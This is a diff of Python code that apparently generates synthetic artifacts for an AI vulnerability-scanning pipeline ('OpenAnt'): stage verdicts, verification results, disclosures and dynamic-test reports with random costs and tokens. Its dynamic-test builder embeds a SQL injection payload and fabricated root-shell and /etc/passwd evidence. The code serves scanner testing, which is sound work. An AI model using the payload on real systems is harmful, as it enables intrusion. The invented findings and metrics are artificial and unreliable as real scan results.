+                for i in incs:
+                    pc += BOUNDARY + all_code[i]
+                code["primary_code"] = pc
+                po = code["primary_origin"]
+                po["files_included"] = po["files_included"] + [i.rpartition(":")[0] for i in incs
+                                                               if i.rpartition(":")[0] not in po["files_included"]]
+                po["enhanced" if legacy else "deps_inlined"] = True
+                po["enhanced_length"] = len(pc)
+            if legacy:
+                meta = {"iterations": sc.rng.randint(2, 9), "total_tokens": tin + tout}
+            else:
+                meta = {"iterations": sc.rng.randint(2, 9), "total_tokens": tin + tout,
+                        "input_tokens": tin, "output_tokens": tout, "cost_usd": cost}
+            ac = {
+                "include_functions": [{"id": i, "reason": "Called with the attacker-controlled value"} for i in incs],
+                "usage_context": "%s is reached from %s" % (u.fname, "an HTTP route" if u.entry or u.route else "internal callers"),
+                "security_classification": u.enh,
+                "classification_reasoning": {
+                    "exploitable": "User input from the request reaches a sensitive sink without validation",
+                    "vulnerable_internal": "Dangerous sink, but only reachable through internal callers",
+                    "security_control": "Implements authentication/validation used by other units",
+                    "neutral": "No security-relevant data flow",
+                }[u.enh],
+                "confidence": round(0.6 + sc.rng.random() * 0.35, 2),
+                "agent_metadata": meta,
+                "reachability": {"is_entry_point": bool(u.entry or u.route),
+                                 "reachable_from_entry": True,
+                                 "entry_point_path": ([u.route["method"] + " " + u.route["path"]] if u.route else
+                                                      (["HTTP route " + u.fname] if u.entry else []))},
+            }
+        x["agent_context"] = ac  # appended last (the input unit had none)
+        cp = {"id": x["id"], "agent_context": ac, "code": x["code"]}
+        if tin or tout:
+            cp["usage"] = {"input_tokens": tin, "output_tokens": tout, "cost_usd": cost}
+        cps[safe_filename(x["id"]) + ".json"] = cp
+        if isinstance(ac.get("error"), dict) or isinstance(ac.get("error"), str):
+            errors += 1
+            et = ac["error"].get("type", "unknown") if isinstance(ac["error"], dict) else "unknown"
+            breakdown[et] = breakdown.get(et, 0) + 1
+        sum_in += tin
+        sum_out += tout
+        sum_cost += cost
+    # metadata (spec §3.1.4)
+    st = {"units_processed": 0, "units_with_context": 0, "total_iterations": 0, "functions_added": 0,
+          "security_controls_found": 0, "exploitable_found": 0, "vulnerable_found": 0, "neutral_found": 0,
+          "errors": 0, "error_summary": {}}
+    if legacy:
+        del st["exploitable_found"]
+        del st["error_summary"]
+    for x in work:
+        ac = x.get("agent_context")
+        if not ac:
+            continue
+        if ac.get("error"):
+            st["errors"] += 1
+            if not legacy:
+                et = ac["error"].get("type", "unknown") if isinstance(ac["error"], dict) else "legacy_string"
+                st["error_summary"][et] = st["error_summary"].get(et, 0) + 1
+            continue
+        st["units_processed"] += 1
+        if ac.get("include_functions"):
+            st["units_with_context"] += 1
+            st["functions_added"] += len(ac["include_functions"])
+        c = ac.get("security_classification")
+        if c == "security_control":
+            st["security_controls_found"] += 1
+        elif c == "exploitable" and not legacy:
+            st["exploitable_found"] += 1
+        elif c == "vulnerable_internal":
+            st["vulnerable_found"] += 1
+        else:
+            st["neutral_found"] += 1
+        st["total_iterations"] += ac.get("agent_metadata", {}).get("iterations", 0)
+    enh["metadata"]["agentic_enhanced"] = True
+    enh["metadata"]["enhancement_mode"] = "agentic"
+    enh["metadata"]["agentic_stats"] = st
+    # token usage: a resumed standalone-equivalent total (spec §3.1.4)
+    enh["metadata"]["token_usage"] = {"total_calls": 0 if sc.restored else sum(
+        (x.get("agent_context", {}).get("agent_metadata", {}) or {}).get("iterations", 0) for x in work),
+        "total_input_tokens": sum_in, "total_output_tokens": sum_out,
+        "total_tokens": sum_in + sum_out, "total_cost_usd": round(sum_cost, 6)}
+    summary = {"step": "enhance", "phase": "done", "timestamp": utc_z(sc.t0 + 400, 120044),
+               "total_units": len(work), "completed": len(work) - errors, "errors": errors,
+               "error_breakdown": breakdown,
+               "usage": {"input_tokens": sum_in, "output_tokens": sum_out, "cost_usd": round(sum_cost, 6)}}
+    # step-report summary (spec §3.1.6): over ALL output units
+    err_count = 0
+    err_sum = {}
+    classes = {}
+    for x in enh["units"]:
+        ac = x.get("agent_context", {})
+        if ac.get("error"):
+            err_count += 1
+            et = ac["error"].get("type", "unknown") if isinstance(ac["error"], dict) else "legacy_string"
+            err_sum[et] = err_sum.get(et, 0) + 1
+        else:
+            c = ac.get("security_classification", "unknown")
+            classes[c] = classes.get(c, 0) + 1
+    step_summary = {"units_enhanced": len(enh["units"]) - err_count, "error_count": err_count,
+                    "classifications": classes, "mode": "agentic"}
+    if err_sum:
+        step_summary["error_summary"] = err_sum
+    usage = (sum_in, sum_out, sum_cost)
+    return enh, cps, summary, step_summary, usage
+
+
+# ---------------------------------------------------------------------------------------------
+# Builders: analyze (spec §1.4.7, §2.3, §3.2)
+# ---------------------------------------------------------------------------------------------
+
+REASONING = {
+    "vulnerable": "The %s value flows from the request into a dangerous sink without sanitisation.",
+    "bypassable": "A check exists, but the %s validation can be bypassed with an encoded payload.",
+    "safe": "%s handles only trusted data; no security-relevant sink is reached.",
+    "protected": "%s validates and rejects tampered input before use.",
+    "inconclusive": "Behaviour of %s depends on configuration that is not visible in the code.",
+    "insufficient_context": "The callee that %s delegates to is not in the provided context.",
+}
+
+
+def analyze_units(sc, dataset_in):
+    units = dataset_in["units"]
+    if any("diff_selected" in x for x in units):
+        units = [x for x in units if x.get("diff_selected")]
+    return units
+
+
+def stage1_result(sc, u, unit):
+    """One StageOneResult, keys in OpenAnt order (spec §1.4.7)."""
+    legacy = sc.era == "legacy"
+    code = unit["code"]["primary_code"]
+    po = unit["code"]["primary_origin"]
+    ac = unit.get("agent_context", {})
+    route = unit.get("route") or {}
+    route_key = ("%s:%s" % (route.get("method", "GET"), route.get("path", "/unknown"))) if route else unit["id"]
+    elapsed = round(4 + sc.rng.random() * 40, 6) + sc.rng.randint(1, 999) * 1e-9
+    if u.error == "exception":
+        return {"unit_id": u.id, "verdict": "ERROR", "finding": "error",
+                "error": "Error code: 529 - {'type': 'error', 'error': {'type': 'overloaded_error', 'message': 'Overloaded'}}"}, u.id, ""
+    if u.error == "parse":
+        raw = '{"function_analyzed": "%s", "finding": "vulnerable", "reasoning": "The report id is interpolated' % u.fname
+        r = {"verdict": "ERROR", "confidence": 0, "vulnerabilities": [],
+             "reasoning": "Failed to parse response: Unterminated string starting at: line 1 column 62 (char 61)",
+             "raw_response": raw[:500]}
+    else:
+        r = {"function_analyzed": u.fname, "finding": u.finding,
+             "reasoning": REASONING[u.finding] % u.fname,
+             "attack_vector": ATTACK.get(u.kind) if u.finding in ("vulnerable", "bypassable") else None,
+             "confidence": round(0.55 + sc.rng.random() * 0.4, 2)}
+        if not legacy:
+            if u.finding in ("vulnerable", "bypassable"):
+                r["cwe_id"], r["cwe_name"] = CWE[u.kind]
+            else:
+                r["cwe_id"], r["cwe_name"] = 0, None
+        r["verdict"] = u.finding.upper()
+    tin_code = len(code)
+    r["route_key"] = route_key
+    r["elapsed_seconds"] = elapsed
+    r["prompt_length"] = tin_code + 4200 + len(u.id)
+    r["response_length"] = 300 + sc.rng.randint(0, 900)
+    r["code_length"] = tin_code + 60
+    r["files_included"] = list(po.get("files_included", []))
+    if legacy:
+        r["is_enhanced"] = po.get("enhanced", False)
+    else:
+        r["has_deps_inlined"] = po.get("deps_inlined", False)
+    r["context_reviewed"] = bool(ac) and not ac.get("error")
+    if ac.get("security_classification"):
+        r["security_classification"] = ac["security_classification"]
+        r["classification_reasoning"] = None
+    r["unit_id"] = u.id
+    if u.error == "parse":
+        r["finding"] = "error"
+    return r, route_key, code
+
+
+def count_verdicts(results, fork=False):
+    counts = {"vulnerable": 0, "bypassable": 0, "inconclusive": 0}
+    if fork:
+        counts["insufficient_context"] = 0
+    counts.update({"protected": 0, "safe": 0, "errors": 0})
+    for r in results:
+        f = r["finding"] if "finding" in r else (r.get("verdict", "error") or "error").lower()
+        if f in counts:
+            counts[f] += 1
+        elif r.get("verdict") == "ERROR":
+            counts["errors"] += 1
+    return counts
+
+
+def build_analyze(sc, dataset_in, dataset_name):
+    """Returns (results_obj, checkpoints, summary, step_summary, usage)."""
+    by_id = {u.id: u for u in sc.units}
+    units = analyze_units(sc, dataset_in)
+    fork = sc.era == "fork"
+    results = []
+    restored_cbr = []
+    late_cbr = []
+    cps = {}
+    sum_in = sum_out = 0
+    sum_cost = 0.0
+    errors = 0
+    for i, unit in enumerate(units):
+        u = by_id[unit["id"]]
+        r, rk, cfr = stage1_result(sc, u, unit)
+        if u.error == "exception":
+            tin, tout = 0, 0
+        else:
+            tin, tout = len(cfr) // 3 + 2500, sc.rng.randint(250, 1400)
+        cost = sc.money(tin, tout) if tin else 0.0
+        cp = {"result": r, "route_key": rk, "code_for_route": cfr,
+              "usage": {"input_tokens": tin, "output_tokens": tout, "cost_usd": cost}, "id": u.id}
+        cps[safe_filename(u.id) + ".json"] = cp
+        results.append(r)
+        is_err = r.get("verdict") == "ERROR" or r.get("finding") == "error"
+        if is_err:
+            errors += 1
+            late_cbr.append((rk, cfr))
+        else:
+            restored_cbr.append((rk, cfr))
+        sum_in += tin
+        sum_out += tout
+        sum_cost += cost
+    # code_by_route: restored entries in unit order, errored (re-run) entries after them (§3.2.2).
+    code_by_route = {}
+    for k, v in restored_cbr + late_cbr:
+        code_by_route[k] = v
+    results = json.loads(json.dumps(results))  # results.json does not share objects with checkpoints
+    if sc.consistency_update:
+        # Stage-1 consistency check (fresh run): the LLM aligned one unit of an inconsistent group.
+        for r in results:
+            if r.get("unit_id") == "app/routes/users.py:create_user":
+                r["verdict"] = "VULNERABLE"
+                r["stage1_consistency_update"] = {
+                    "from": "SAFE", "to": "VULNERABLE",
+                    "reason": "Same unparameterised query pattern as get_user; page is user-controlled",
+                    "pattern": "users.py:*_user"}
+    if fork:
+        results.sort(key=lambda r: r.get("unit_id", ""))
+    model_id = {"opus": OPUS, "sonnet": SONNET_FORK if fork else SONNET_FIX}[sc.model]
+    counts = count_verdicts(results, fork=fork)
+    metrics = {"total": len(units)}
+    metrics.update(counts)
+    res = {"dataset": dataset_name, "model": model_id, "timestamp": local_naive(sc.t0 + 1500, 734512),
+           "metrics": metrics, "results": results, "code_by_route": code_by_route}
+    summary = {"step": "Analyze", "phase": "done", "timestamp": utc_z(sc.t0 + 1499, 991203),
+               "total_units": len(units), "completed": len(units) - errors, "errors": errors,
+               "error_breakdown": {"api": errors} if errors else {},
+               "usage": {"input_tokens": sum_in, "output_tokens": sum_out, "cost_usd": round(sum_cost, 6)}}
+    c = count_verdicts(results)
+    step_summary = {"total_units": len(units), "analyzed": len(units) - c["errors"],
+                    "verdicts": {k: c[k] for k in ("vulnerable", "bypassable", "inconclusive", "protected", "safe", "errors")}}
+    return res, cps, summary, step_summary, (sum_in, sum_out, sum_cost)
+
+
+# ---------------------------------------------------------------------------------------------
+# Builders: verify (spec §1.4.8, §2.3, §3.3)
+# ---------------------------------------------------------------------------------------------
+
+def verify_candidates(results):
+    return [r for r in results
+            if (r["finding"] if "finding" in r else r.get("verdict", "").lower()) in ("vulnerable", "bypassable")]
+
+
+def build_verify(sc, results_obj):
+    """Returns (results_verified, checkpoints, summary, step_summary, usage, explanations)."""
+    legacy = sc.era == "legacy"
+    fork = sc.era == "fork"
+    by_id = {u.id: u for u in sc.units}
+    res = json.loads(json.dumps(results_obj))
+    all_results = res["results"]
+    cands = verify_candidates(all_results)
+    cps = {}
+    sum_in = sum_out = 0
+    sum_cost = 0.0
+    agreed = disagreed = confirmed_n = 0
+    explanations = {}
+    for r in cands:
+        u = by_id[r["unit_id"]]
+        agree, correct = u.verify
+        stage1 = r["finding"]
+        tin, tout = sc.rng.randint(20000, 90000), sc.rng.randint(1500, 6000)
+        cost = sc.money(tin, tout)
+        v = {"agree": agree, "correct_finding": correct,
+             "explanation": ("Confirmed: %s" if agree else "Stage 1 was wrong: %s") % ATTACK.get(u.kind, "no exploitable path"),
+             "iterations": sc.rng.randint(3, 12), "total_tokens": tin + tout}
+        if u.exploit_path:
+            v["exploit_path"] = dict(u.exploit_path)
+        elif agree:
+            v["exploit_path"] = {"entry_point": "HTTP request", "data_flow": ["request parameter", u.fname + "()", "sink"],
+                                 "sink_reached": True, "attacker_control_at_sink": "partial", "path_broken_at": None}
+        if correct in ("vulnerable", "bypassable"):
+            v["security_weakness"] = "%s (CWE-%d)" % (CWE[u.kind][1], CWE[u.kind][0])
+        note = "" if agree else "Changed from %s to %s" % (stage1, correct)
+        if not agree:
+            r["finding"] = correct
+        r["verification"] = v
+        if sc.restored or not agree:
+            r["verification_note"] = note
+        key = r.get("unit_id") or r.get("route_key") or "unknown"
+        cp = {"verification": v, "finding": r["finding"], "verification_note": note,
+              "usage": {"input_tokens": tin, "output_tokens": tout, "cost_usd": cost}, "id": key}
+        cps[safe_filename(key) + ".json"] = json.loads(json.dumps(cp))
+        sum_in += tin
+        sum_out += tout
+        sum_cost += cost
+        if agree:
+            agreed += 1
+            if r["finding"] in ("vulnerable", "bypassable"):
+                confirmed_n += 1
+        else:
+            disagreed += 1
+        explanations[r.get("route_key")] = (r["route_key"], v)
+    counts = count_verdicts(all_results)
+    metrics = {"total": len(all_results)}
+    metrics.update(counts)
+    out = {"dataset": res.get("dataset", ""), "model": res.get("model", ""), "timestamp": res.get("timestamp", ""),
+           "verify": True, "metrics": metrics, "results": all_results}
+    if fork:
+        out["code_by_route"] = res.get("code_by_route", {})
+    if legacy:
+        conf = [r for r in cands if r.get("verification", {}).get("agree") is True
+                and r.get("finding", "").lower() in ("vulnerable", "bypassable")]
+    else:
+        conf = [r for r in cands if r.get("finding", "").lower() in ("vulnerable", "bypassable")]
+    out["confirmed_findings"] = conf
+    summary = {"step": "Verify", "phase": "done", "timestamp": utc_z(sc.t0 + 2600, 5012),
+               "total_units": len(cands), "completed": len(cands), "errors": 0, "error_breakdown": {},
+               "usage": {"input_tokens": sum_in, "output_tokens": sum_out, "cost_usd": round(sum_cost, 6)}}
+    step_summary = {"findings_input": len(cands), "findings_verified": len(cands), "agreed": agreed,
+                    "disagreed": disagreed, "confirmed_vulnerabilities": confirmed_n}
+    return out, cps, summary, step_summary, (sum_in, sum_out, sum_cost), explanations
+
+
+def explanation_md(route_key, v):
+    lines = ["# %s\n" % route_key, "**Verdict:** %s" % v["correct_finding"],
+             "**Agrees with Stage 1:** %s\n" % v["agree"]]
+    ep = v.get("exploit_path")
+    if ep:
+        lines.append("## Exploit Path\n")
+        if ep.get("entry_point"):
+            lines.append("**Entry point:** %s\n" % ep["entry_point"])
+        if ep.get("data_flow"):
+            lines.append("**Data flow:**")
+            for s in ep["data_flow"]:
+                lines.append("1. %s" % s)
+            lines.append("")
+        lines.append("**Sink reached:** %s" % ep["sink_reached"])
+        lines.append("**Attacker control at sink:** %s" % ep["attacker_control_at_sink"])
+        if ep.get("path_broken_at"):
+            lines.append("**Path broken at:** %s" % ep["path_broken_at"])
+        lines.append("")
+    lines.append("## Explanation\n")
+    lines.append(v["explanation"])
+    if v.get("security_weakness"):
+        lines.append("\n## Security Weakness\n\n%s" % v["security_weakness"])
+    return "\n".join(lines)
+
+
+# ---------------------------------------------------------------------------------------------
+# Builders: pipeline_output (spec §1.4.9, §3.4)
+# ---------------------------------------------------------------------------------------------
+
+FENCE = {"python": "python", "py": "python", "javascript": "javascript", "js": "javascript",
+         "typescript": "typescript", "ts": "typescript", "go": "go", "golang": "go", "java": "java",
+         "ruby": "ruby", "rb": "ruby", "php": "php", "rust": "rust", "c": "c", "cpp": "cpp",
+         "c++": "cpp", "csharp": "csharp", "c#": "csharp"}
+
+
+def dedup(confirmed, all_results, call_graph):
+    if call_graph is None:
+        return confirmed
+    rcg = call_graph.get("reverse_call_graph", {})
+    cwe_by_key = {}
+    for f in confirmed:
+        rk = f.get("route_key") or f.get("unit_id", "")
+        cwe = f.get("cwe_id")
+        if cwe is None:
+            full = next((r for r in all_results if (r.get("route_key") or r.get("unit_id")) == rk), None)
+            cwe = full.get("cwe_id", 0) if full else 0
+        cwe_by_key[rk] = cwe
+    remove = set()
+    for callee, callers in rcg.items():
+        if len(callers) != 1:
+            continue
+        caller = callers[0]
+        if caller not in cwe_by_key or callee not in cwe_by_key:
+            continue
+        if cwe_by_key[caller] and cwe_by_key[caller] != 0 and cwe_by_key[caller] == cwe_by_key[callee]:
+            remove.add(callee)
+    return [f for f in confirmed if (f.get("route_key") or f.get("unit_id", "")) not in remove]
+
+
+def build_pipeline_output(sc, experiment, call_graph, step_reports, app_type, diff_block):
+    legacy = sc.era == "legacy"
+    all_results = experiment.get("results", [])
+    code_by_route = experiment.get("code_by_route", {})
+    metrics = experiment.get("metrics", {})
+    confirmed = experiment.get("confirmed_findings")
+    if confirmed is None:
+        confirmed = [r for r in all_results
+                     if r.get("finding", r.get("verdict", "").lower()) in ("vulnerable", "bypassable")]
+    if not legacy:
+        confirmed = dedup(confirmed, all_results, call_graph)
+    findings = []
+    for i, f in enumerate(confirmed):
+        rk = f.get("route_key") or f.get("unit_id", "unknown")
+        full = next((r for r in all_results if (r.get("route_key") or r.get("unit_id")) == rk), f)
+        vulns = f.get("vulnerabilities", [])
+        vuln = vulns[0] if vulns else {}
+        desc = vuln.get("description") or f.get("reasoning") or full.get("reasoning")
+        vcode = vuln.get("vulnerable_code") or code_by_route.get(rk)
+        file_path = rk.split(":")[0] if ":" in rk else "unknown"
+        if vcode:
+            vcs = "## Vulnerable Code\n\n`%s`:\n\n```%s\n%s\n```" % (file_path, FENCE.get((sc.lang or "").lower(), ""), vcode)
+        else:
+            vcs = ""
+        impact = vuln.get("impact") or f.get("attack_vector")
+        steps = vuln.get("steps_to_reproduce")
+        if not steps:
+            parts = []
+            if f.get("attack_vector"):
+                parts.append(f["attack_vector"])
+            ep = f.get("exploit_path") or {}
+            if ep.get("data_flow"):
+                parts.append("Data flow: " + " -> ".join(ep["data_flow"]))
+            if f.get("verification_explanation"):
+                parts.append("Verification: " + f["verification_explanation"])
+            steps = "\n\n".join(parts) if parts else None
+        v = f.get("verification", {})
+        if v.get("agree", False):
+            s2 = "confirmed" if f.get("exploit_path") else "agreed"
+        elif v:
+            s2 = "rejected"
+        else:
+            s2 = f.get("finding", "vulnerable")
+        d = {"id": "VULN-%03d" % (i + 1),
+             "name": vuln.get("name", f.get("finding", "Unknown Vulnerability")),
+             "short_name": vuln.get("short_name", f.get("verdict", "vuln")),
+             "location": {"file": file_path, "function": rk}}
+        if legacy:
+            d["cwe_id"] = vuln.get("cwe_id", 0)
+            d["cwe_name"] = vuln.get("cwe_name", "Unknown")
+        else:
+            d["cwe_id"] = vuln.get("cwe_id") or f.get("cwe_id") or full.get("cwe_id", 0)
+            d["cwe_name"] = vuln.get("cwe_name") or f.get("cwe_name") or full.get("cwe_name", "Unknown")
+        d["stage1_verdict"] = f.get("verdict", f.get("finding", "vulnerable"))
+        d["stage2_verdict"] = s2
+        d["description"] = desc
+        d["vulnerable_code"] = vcode
+        if not legacy:
+            d["vulnerable_code_section"] = vcs
+        d["impact"] = impact
+        d["suggested_fix"] = vuln.get("suggested_fix")
+        d["steps_to_reproduce"] = steps
+        findings.append(d)
+    costs = {}
+    durations = {}
+    for sr in step_reports:
+        step = sr.get("step", "unknown")
+        if sr.get("cost_usd"):
+            costs[step] = {"actual": sr["cost_usd"]}
+        if sr.get("duration_seconds"):
+            durations[step] = sr["duration_seconds"]
+    total_units = metrics.get("total", len(all_results))
+    po = {
+        "repository": {"name": sc.repo_name or experiment.get("dataset", "unknown"), "url": sc.repo_url or "",
+                       "language": sc.lang or "", "commit_sha": sc.commit},
+        "analysis_date": utc_iso(sc.t0 + 2700, 318274),
+        "application_type": app_type,
+        "pipeline_stats": {"total_units": total_units, "reachable_units": total_units,
+                           "units_analyzed": total_units - metrics.get("errors", 0),
+                           "processing_level": sc.level, "costs": costs, "durations": durations,
+                           "skipped_steps": []},
+        "results": {"vulnerable": metrics.get("vulnerable", 0) + metrics.get("bypassable", 0),
+                    "safe": metrics.get("safe", 0) + metrics.get("protected", 0),
+                    "inconclusive": metrics.get("inconclusive", 0), "total": total_units},
+        "findings": findings,
+    }
+    if diff_block is not None:
+        po["diff"] = diff_block
+    return po
+
+
+def diff_block_of(manifest, stats):
+    out = {"mode": "incremental", "base_ref": manifest.get("base_ref"), "base_sha": manifest.get("base_sha"),
+           "head_sha": manifest.get("head_sha"), "scope": manifest.get("scope"),
+           "pr_number": manifest.get("pr_number") or None,
+           "changed_files": len(manifest.get("changed_files") or [])}
+    if stats is not None:
+        out["units_in_diff"] = stats.get("selected")
+        out["units_total_parsed"] = stats.get("total")
+        out["callers_added"] = stats.get("callers_added") or 0
+        out["fallback_file_match"] = stats.get("fallback_file_match") or 0
+    return out
+
+
+# ---------------------------------------------------------------------------------------------
+# Builders: dynamic test (spec §1.4.10, §3.5)
+# ---------------------------------------------------------------------------------------------
+
+DYN_DETAILS = {
+    "CONFIRMED": "Exploit succeeded: the payload reached the sink and the canary was observed.",
+    "NOT_REPRODUCED": "The payload was rejected by the running application (HTTP 400).",
+    "BLOCKED": "Container could not start: dependency 'libpq' missing in the generated image.",
+    "INCONCLUSIVE": "Response differed from baseline but the canary was not observed.",
+    "ERROR": "Test generation failed: model returned no code block.",
+}
+
+
+def build_dynamic(sc, po):
+    legacy = sc.era == "legacy"
+    by_key = {}
+    for u in sc.units:
+        by_key[u.id] = u
+        if u.route:
+            by_key["%s:%s" % (u.route["method"], u.route["path"])] = u
+    cps = {}
+    results = []
+    for i, f in enumerate(po["findings"]):
+        u = by_key[f["location"]["function"]]
+        st = u.dyn or "INCONCLUSIVE"
+        tin, tout = sc.rng.randint(3000, 12000), sc.rng.randint(800, 3500)
+        cost = sc.money(tin, tout) if st != "ERROR" else 0.0
+        ev = []
+        if st == "CONFIRMED":
+            ev = [{"type": "http_response", "content": "HTTP/1.1 200 OK\nContent-Type: text/html\n\nroot:x:0:0:root:/root:/bin/bash\ncanary-7f3a"},
+                  {"type": "command_output", "content": "uid=0(root) gid=0(root) — canary présent ✓ 🐜"}]
+        elif st == "NOT_REPRODUCED":
+            ev = [{"type": "http_response", "content": "HTTP/1.1 400 Bad Request\n\n{\"error\": \"invalid input\"}"}]
+        test_code = "" if st == "ERROR" else (
+            "import requests\n\nBASE = 'http://target:8000'\n\n\ndef test_%s():\n"
+            "    r = requests.get(BASE + '/', params={'q': \"' OR '1'='1\"}, timeout=10)\n"
+            "    assert 'canary' in r.text, r.text[:200]\n" % u.fname.lower())
+        d = {"finding_id": f["id"], "status": st, "details": DYN_DETAILS[st],
+             "evidence": ev, "test_code": test_code,
+             "dockerfile": "" if st == "ERROR" else "FROM python:3.11-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD [\"python\", \"-m\", \"app\"]\n",
+             "docker_compose": "" if st in ("ERROR", "BLOCKED") else "services:\n  target:\n    build: .\n  attacker:\n    image: python:3.11-slim\n",
+             "elapsed_seconds": round(20 + sc.rng.random() * 200, 2),
+             "generation_cost_usd": round(cost, 6)}
+        if not legacy:
+            d["generation_input_tokens"] = tin if st != "ERROR" else 0
+            d["generation_output_tokens"] = tout if st != "ERROR" else 0
+        d["retry_count"] = 0 if st in ("CONFIRMED", "ERROR") else sc.rng.randint(0, 2)
+        cp = dict(d)
+        cp["id"] = f["id"]
+        cps[safe_filename(f["id"]) + ".json"] = json.loads(json.dumps(cp))
+        if sc.restored and not legacy:
+            d = dict(d)
+            d["evidence"] = []  # OpenAnt does not restore evidence (spec §3.5.2)
+        results.append(d)
+    total_cost = 0.0
+    for name in sorted(cps):
+        total_cost += cps[name].get("generation_cost_usd", 0)
+    out = {"repository": po.get("repository", {}).get("name", "unknown"), "total_findings": len(po["findings"]),
+           "total_cost_usd": round(total_cost, 6), "results": results}
+    counts = {}
+    for r in results:
+        counts[r["status"]] = counts.get(r["status"], 0) + 1
+    summary = {"step": "dynamic_test", "phase": "done", "timestamp": utc_z(sc.t0 + 3900, 700001),
+               "total_units": len(po["findings"]), "completed": len(results), "errors": counts.get("ERROR", 0),
+               "error_breakdown": {}}
+    step_summary = {"findings_tested": len(results), "confirmed": counts.get("CONFIRMED", 0),
+                    "not_reproduced": counts.get("NOT_REPRODUCED", 0), "blocked": counts.get("BLOCKED", 0),
+                    "inconclusive": counts.get("INCONCLUSIVE", 0), "errors": counts.get("ERROR", 0)}
+    md = dynamic_md(results, out["repository"], total_cost, sc.t0 + 3900)
+    tin = sum(c.get("generation_input_tokens", 0) for c in cps.values())
+    tout = sum(c.get("generation_output_tokens", 0) for c in cps.values())
+    return out, cps, summary, step_summary, md, (tin, tout, total_cost)
+
+
+def dynamic_md(results, repo, total_cost, t):
+    lines = ["# Dynamic Test Results: %s" % repo, "",
+             "**Date:** %s" % time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(t)),
+             "**Total Findings Tested:** %d" % len(results), "**Total Cost:** $%.4f" % total_cost, "",
+             "## Summary", "", "| Status | Count |", "|--------|-------|"]
+    order = ["CONFIRMED", "NOT_REPRODUCED", "BLOCKED", "INCONCLUSIVE", "ERROR"]
+    for s in order:
+        lines.append("| %s | %d |" % (s, sum(1 for r in results if r["status"] == s)))
+    lines += ["| **Total** | **%d** |" % len(results), ""]
+    for s in order:
+        rs = [r for r in results if r["status"] == s]
+        if not rs:
+            continue
+        lines += ["## %s (%d)" % (s, len(rs)), ""]
+        for r in rs:
+            lines += ["### %s" % r["finding_id"], "", "**Status:** %s" % r["status"],
+                      "**Details:** %s" % r["details"], "**Time:** %.1fs" % r["elapsed_seconds"],
+                      "**Generation Cost:** $%.4f" % r["generation_cost_usd"], ""]
+            if r["evidence"]:
+                lines += ["**Evidence:**", ""]
+                for e in r["evidence"]:
+                    lines += ["- **%s:**" % e["type"], "```", e["content"][:2000], "```", ""]
+            if r["test_code"]:
+                lines += ["<details>", "<summary>Generated Test Code</summary>", "", "```python", r["test_code"],
+                          "```", "", "</details>", ""]
+    return "\n".join(lines)
+
+
+# ---------------------------------------------------------------------------------------------
+# Step reports (spec §1.4.11) and the whole scan
+# ---------------------------------------------------------------------------------------------
+
+
+def step_report(step, ts, duration, cost, tin, tout, summary, inputs, outputs, status="success", errors=None):
+    return {"step": step, "status": status, "timestamp": ts, "duration_seconds": round(duration, 2),
+            "cost_usd": round(cost, 6),
+            "token_usage": {"input_tokens": tin, "output_tokens": tout, "total_tokens": tin + tout},
+            "summary": summary, "inputs": inputs, "outputs": outputs, "errors": errors or []}
+
+
+def summary_md(sc, po):
+    lines = ["# Security Assessment: %s" % po["repository"]["name"], "",
+             "**Analysis date:** %s" % po["analysis_date"][:10], "",
+             "## Overview", "",
+             "OpenAnt analysed %d units; %d findings survived verification." % (
+                 po["pipeline_stats"]["total_units"], len(po["findings"])), "",
+             "| ID | Location | CWE | Stage 2 |", "|----|----------|-----|---------|"]
+    for f in po["findings"]:
+        lines.append("| %s | `%s` | CWE-%s | %s |" % (f["id"], f["location"]["function"], f["cwe_id"], f["stage2_verdict"]))
+    lines += ["", "## Notes", "", "Findings are ordered by discovery; see `disclosures/` for details — "
+              "each one is written for the maintainers.", ""]
+    return "\n".join(lines)
+
+
+def disclosure_md(f):
+    return "\n".join([
+        "# Security Disclosure: %s in %s" % (f["cwe_name"] or f["name"], f["location"]["function"]), "",
+        "**Severity:** High", "**CWE:** CWE-%s" % f["cwe_id"], "", "## Summary", "", f["description"] or "", "",
+        f["vulnerable_code_section"] if f.get("vulnerable_code_section") else "", "",
+        "## Impact", "", f["impact"] or "Not determined.", "", "## Steps to Reproduce", "",
+        f["steps_to_reproduce"] or "Not determined.", "", "## Suggested Fix", "",
+        "Validate and parameterise the input before it reaches the sink.", ""])
+
+
+def build_scan(sc):
+    """Build every file of one scan dir into sc.files (relative path -> bytes)."""
+    legacy = sc.era == "legacy"
+    fork = sc.era == "fork"
+    t = sc.t0
+    reports = []    # collected step reports (what build_pipeline_output sees, in order)
+    skipped = []
+    dataset, analyzer_output, call_graph = build_parse(sc)
+    diff_stats = None
+    if sc.diff:
+        manifest, diff_stats = sc.diff
+        sc.put("diff_manifest.json", go_json(manifest))
+        sc.pj("diff_filter.report.json", diff_stats)
+        if sc.lang == "javascript":
+            sc.put("scan_results.json", py_json({"repository": sc.repo_path, "files": sorted({u.file for u in sc.units}),
+                                                 "functions": len(sc.units)}, ensure_ascii=False))
+    sc.pj("dataset.json", dataset)
+    if sc.lang == "javascript":
+        # node `JSON.stringify(obj, null, 2)`: raw UTF-8, no trailing newline
+        sc.put("analyzer_output.json", py_json(analyzer_output, ensure_ascii=False))
+    else:
+        sc.pj("analyzer_output.json", analyzer_output)
+    if not legacy:
+        sc.pj("call_graph.json", call_graph)
+    parse_summary = {"total_units": len(dataset["units"]), "language": sc.lang, "processing_level": sc.level}
+    if diff_stats is not None:
+        parse_summary["diff_stats"] = diff_stats
+    r = step_report("parse", utc_z(t, 31337), 12.48, 0.0, 0, 0, parse_summary,
+                    {"repo_path": sc.repo_path, "language": sc.lang, "processing_level": sc.level, "skip_tests": True},
+                    {"dataset_path": sc.p("dataset.json"), "analyzer_output_path": sc.p("analyzer_output.json")})
+    sc.pj("parse.report.json", r)
+    reports.append(r)
+    app_type = "web_app"
+    if sc.context:
+        ctx = build_app_context(sc)
+        sc.pj("application_context.json", ctx)
+        r = step_report("app-context", utc_z(t + 13, 200), 41.07, 0.183525, 9120, 616,
+                        {"application_type": ctx["application_type"]}, {"repo_path": sc.repo_path},
+                        {"app_context_path": sc.p("application_context.json")})
+        sc.pj("app-context.report.json", r)
+        reports.append(r)
+        app_type = ctx["application_type"] or "web_app"
+    else:
+        skipped.append("app-context")
+    skipped.append("llm-reachability")
+    analyze_input = dataset
+    ds_name = "dataset.json"
+    if sc.enhance:
+        enh, ecps, esum, estep, eu = build_enhance(sc, dataset)
+        sc.pj("dataset_enhanced.json", enh)
+        if not legacy:
